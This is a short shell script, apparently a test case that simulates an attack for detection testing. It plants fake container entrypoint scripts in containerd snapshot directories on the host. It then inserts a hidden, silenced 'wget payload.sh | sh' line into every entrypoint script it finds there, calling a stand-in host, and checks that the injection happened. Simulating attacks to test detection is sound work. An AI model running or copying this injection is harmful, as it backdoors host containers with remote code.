#!/bin/sh
. /opt/case/case.sh

for n in 11 12 13; do d=/host/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/$n/fs/usr/local/bin; mkdir -p $d; printf '#!/bin/sh\nexec "$@"\n' >$d/docker-entrypoint.sh; chmod 755 $d/docker-entrypoint.sh; done
find /host/var/lib/containerd /host/var/lib/docker -name '*entrypoint*.sh' 2>/dev/null | while read -r f; do
    sed -i '2i (wget -qO- http://203.0.113.10/payload.sh | sh) >/dev/null 2>\&1 \&' "$f"
done
grep -q payload /host/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs/usr/local/bin/docker-entrypoint.sh
took_place
